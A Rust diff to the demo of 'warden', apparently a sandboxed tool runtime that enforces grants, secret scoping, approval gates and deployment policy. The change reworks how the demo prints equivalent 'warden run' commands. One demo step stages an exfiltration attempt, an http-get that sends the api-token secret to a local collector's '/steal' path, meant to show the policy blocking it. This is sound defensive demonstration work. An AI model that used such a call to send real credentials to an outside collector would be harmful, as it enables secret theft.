@@ -154,8 +154,9 @@ impl Approver for DemoApprover {
 
 struct Step {
     title: &'static str,
-    /// How the same call looks on the command line.
-    cli: String,
+    /// The same call's `warden run` flags besides the manifest, trail, tool
+    /// and input (its grant and labels).
+    flags: Vec<String>,
     tool: &'static str,
     grant: Grant,
     input: String,
@@ -163,6 +164,7 @@ struct Step {
 
 pub async fn run(builder: RuntimeBuilder, dir: Option<PathBuf>) -> Result<(), Failure> {
     let scratch;
+    let kept = dir.is_some();
     let dir = match dir {
         Some(d) => d,
         None => {
@@ -180,6 +182,8 @@ pub async fn run(builder: RuntimeBuilder, dir: Option<PathBuf>) -> Result<(), Fa
     setup(&dir, api_port, collector_port)
         .with_context(|| format!("cannot lay out the demo in {}", dir.display()))
         .map_err(fail)?;
+    // Absolute, so the commands printed run from anywhere.
+    let dir = dir.canonicalize().unwrap_or(dir);
     let manifest = Manifest::load(dir.join("manifest.toml")).map_err(warden::Error::from)?;
     let audit_path = dir.join("audit.jsonl");
     let _ = std::fs::remove_file(&audit_path);
@@ -203,6 +207,11 @@ pub async fn run(builder: RuntimeBuilder, dir: Option<PathBuf>) -> Result<(), Fa
     let collector = format!("http://127.0.0.1:{collector_port}");
 
     outln!("Warden demo in {}", dir.display())?;
+    if !kept {
+        outln!(
+            "(a scratch directory, removed when the demo ends: with --dir DIR the commands shown run as pasted)"
+        )?;
+    }
     outln!(
         "manifest ceilings: read-files, search-text: read; write-file: read,write; remove-path: read,write,delete;\n\
          http-get: egress to the local API ({api}) and collector ({collector}), secret api-token (send-to the API only);\n\
@@ -213,7 +222,10 @@ pub async fn run(builder: RuntimeBuilder, dir: Option<PathBuf>) -> Result<(), Fa
 
     let fs_step = |title, tool, rights: Rights, input: &str| Step {
         title,
-        cli: format!("warden run {tool} --grant fs:workspace=workspace:{rights} --input '{input}'"),
+        flags: vec![
+            "--grant".into(),
+            format!("fs:workspace={}:{rights}", ws.display()),
+        ],
         tool,
         grant: Grant::new("demo").fs("workspace", &ws, rights),
         input: input.to_owned(),
@@ -259,9 +271,7 @@ pub async fn run(builder: RuntimeBuilder, dir: Option<PathBuf>) -> Result<(), Fa
         ),
         Step {
             title: "a credential used without being revealed: http-get sends secret api-token by reference",
-            cli: format!(
-                "warden run http-get --grant http:{api}/ --grant secret:api-token --input '{{\"url\":\"{api}/secure\",\"secret\":\"api-token\"}}'"
-            ),
+            flags: grants(&[&format!("http:{api}/"), "secret:api-token"]),
             tool: "http-get",
             grant: Grant::new("demo")
                 .http(&format!("{api}/"), None)
@@ -270,9 +280,7 @@ pub async fn run(builder: RuntimeBuilder, dir: Option<PathBuf>) -> Result<(), Fa
         },
         Step {
             title: "an exfiltration attempt: http-get sends api-token to the collector (granted egress, but not in the secret's send-to)",
-            cli: format!(
-                "warden run http-get --grant http:{collector}/ --grant secret:api-token --input '{{\"url\":\"{collector}/steal\",\"secret\":\"api-token\"}}'"
-            ),
+            flags: grants(&[&format!("http:{collector}/"), "secret:api-token"]),
             tool: "http-get",
             grant: Grant::new("demo")
                 .http(&format!("{collector}/"), None)
@@ -281,21 +289,34 @@ pub async fn run(builder: RuntimeBuilder, dir: Option<PathBuf>) -> Result<(), Fa
         },
         Step {
             title: "an approval gate: release-notes may write only after a person approves (the demo approves)",
-            cli: "warden run release-notes --grant fs:workspace=workspace:write --input '{\"path\":\"CHANGELOG.md\",\"content\":\"…\"}'".into(),
+            flags: grants(&[&format!("fs:workspace={}:write", ws.display())]),
             tool: "release-notes",
             grant: Grant::new("demo").fs("workspace", &ws, Rights::WRITE),
-            input: r#"{"path":"CHANGELOG.md","content":"Release 0.1.0\n- sandboxed tools\n"}"#.into(),
+            input: r#"{"path":"CHANGELOG.md","content":"Release 0.1.0\n- sandboxed tools\n"}"#
+                .into(),
         },
         Step {
             title: "a Cedar denial: deploy-artifact to production from a task without the 'release' label (policy production-needs-release)",
-            cli: format!("warden run deploy-artifact --grant fs:workspace=workspace:read --grant deploy:production --input '{deploy}'"),
+            flags: grants(&[
+                &format!("fs:workspace={}:read", ws.display()),
+                "deploy:production",
+            ]),
             tool: "deploy-artifact",
-            grant: Grant::new("demo").fs("workspace", &ws, Rights::READ).deploy("production"),
+            grant: Grant::new("demo")
+                .fs("workspace", &ws, Rights::READ)
+                .deploy("production"),
             input: deploy.into(),
         },
         Step {
             title: "the same deploy from a release task: the policy allows it",
-            cli: format!("warden run deploy-artifact --label release --grant fs:workspace=workspace:read --grant deploy:production --input '{deploy}'"),
+            flags: [
+                vec!["--label".to_owned(), "release".to_owned()],
+                grants(&[
+                    &format!("fs:workspace={}:read", ws.display()),
+                    "deploy:production",
+                ]),
+            ]
+            .concat(),
             tool: "deploy-artifact",
             grant: Grant::new("release-1.0")
                 .label("release")
@@ -305,9 +326,7 @@ pub async fn run(builder: RuntimeBuilder, dir: Option<PathBuf>) -> Result<(), Fa
         },
         Step {
             title: "a workload identity: call-api authenticates with a token minted for this call only",
-            cli: format!(
-                "warden run call-api --grant http:{api}/ --input '{{\"url\":\"{api}/whoami\",\"audience\":\"{api}\"}}'"
-            ),
+            flags: grants(&[&format!("http:{api}/")]),
             tool: "call-api",
             grant: Grant::new("demo").http(&format!("{api}/"), None),
             input: format!(r#"{{"url":"{api}/whoami","audience":"{api}"}}"#),
@@ -315,7 +334,7 @@ pub async fn run(builder: RuntimeBuilder, dir: Option<PathBuf>) -> Result<(), Fa
     ];
     for (i, step) in steps.iter().enumerate() {
         outln!("{}. {}", i + 1, step.title)?;
-        outln!("   $ {}", step.cli)?;
+        outln!("   $ {}", command(&dir, step))?;
         match runtime.invoke(step.tool, &step.grant, &step.input).await {
             Ok(run) => match run.output {
                 Ok(out) => outln!("   ok: {}", shorten(&out, 160)),
@@ -377,6 +396,36 @@ pub async fn run(builder: RuntimeBuilder, dir: Option<PathBuf>) -> Result<(), Fa
         )?;
     }
     Ok(())
+}
+
+/// `--grant SPEC` for each spec.
+fn grants(specs: &[&str]) -> Vec<String> {
+    specs
+        .iter()
+        .flat_map(|s| ["--grant".to_owned(), (*s).to_owned()])
+        .collect()
+}
+
+/// The `warden run` command that makes the same call, each word quoted for
+/// a POSIX shell: it runs as pasted, from any directory, while `dir` exists
+/// (and, for the steps that reach the demo's API, while the demo runs).
+fn command(dir: &Path, step: &Step) -> String {
+    let mut words = vec![
+        "warden".to_owned(),
+        "run".to_owned(),
+        "--manifest".to_owned(),
+        dir.join("manifest.toml").display().to_string(),
+        "--audit".to_owned(),
+        dir.join("audit.jsonl").display().to_string(),
+        step.tool.to_owned(),
+    ];
+    words.extend(step.flags.iter().cloned());
+    words.extend(["--input".to_owned(), step.input.clone()]);
+    words
+        .iter()
+        .map(|w| shlex::try_quote(w).map_or_else(|_| w.clone(), |q| q.into_owned()))
+        .collect::<Vec<_>>()
+        .join(" ")
 }
 
 fn shorten(s: &str, max: usize) -> String {
